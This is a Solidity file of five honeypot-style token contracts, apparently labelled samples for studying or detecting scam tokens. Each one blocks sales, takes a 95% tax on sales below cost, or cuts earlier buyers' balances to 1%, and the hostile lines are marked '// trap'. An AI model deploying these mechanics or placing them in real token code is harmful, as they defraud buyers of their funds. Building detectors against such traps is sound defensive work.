// SPDX-License-Identifier: MIT
pragma solidity 0.8.26;

import {TrapToken} from "./traps_base.sol";
import {PricedToken} from "./traps_profits.sol";

/// No sale below `level` basis points of the price paid.
contract BelowCost is PricedToken {
    constructor(uint256 supply) TrapToken(supply) {}

    function _check(address from, address to, uint256) internal view override {
        bool below = on && to == pair && _price() * 10_000 < paid[from] * level;
        require(!below, "later"); // trap
    }
}

/// Nearly all of a sale below four fifths of the price paid is taken.
contract TaxedBelowCost is PricedToken {
    constructor(uint256 supply) TrapToken(supply) {}

    function _feeBps(address from, address to) internal view override returns (uint256) {
        bool below = on && to == pair && _price() * 5 < paid[from] * 4;
        if (below) return 9_500; // trap
        return 0;
    }
}

/// No sale once others have sold `level` basis points of the supply since the purchase.
contract ShutByVolume is TrapToken {
    uint256 private sold;
    mapping(address => uint256) private soldBefore;
    mapping(address => bool) private known;

    constructor(uint256 supply) TrapToken(supply) {}

    function _bought(address buyer, uint256 amount) internal override {
        super._bought(buyer, amount);
        if (!known[buyer]) soldBefore[buyer] = sold;
        known[buyer] = true;
    }

    function _check(address from, address to, uint256 amount) internal override {
        if (!on || to != pair) return;
        uint256 byOthers = sold - soldBefore[from];
        require(byOthers * 10_000 < totalSupply * level, "later"); // trap
        sold += amount;
        soldBefore[from] += amount;
    }
}

/// With each `level` basis points of the supply that are sold, all earlier buyers are shut out.
contract ShutByRound is TrapToken {
    uint256 private round;
    uint256 private sold;
    mapping(address => uint256) private joined;

    constructor(uint256 supply) TrapToken(supply) {}

    function _bought(address buyer, uint256 amount) internal override {
        super._bought(buyer, amount);
        joined[buyer] = round;
    }

    function _check(address from, address to, uint256 amount) internal override {
        if (!on || to != pair) return;
        require(joined[from] == round, "later"); // trap
        sold += amount;
        if (sold * 10_000 < totalSupply * level) return;
        round++;
        sold = 0;
    }
}

/// Somebody else's sale of over a fiftieth of the supply empties those who bought before.
contract TakenByDump is TrapToken {
    uint256 private dumpedIn;

    constructor(uint256 supply) TrapToken(supply) {}

    function _check(address from, address to, uint256 amount) internal override {
        if (!on || to != pair || amount * 50 < totalSupply) return;
        boughtIn[from] = block.number;
        dumpedIn = block.number;
    }

    function _balance(address account) internal view override returns (uint256) {
        bool before = account != pair && boughtIn[account] > 0 && boughtIn[account] < dumpedIn;
        if (before) return balances[account] / 100; // trap
        return balances[account];
    }
}
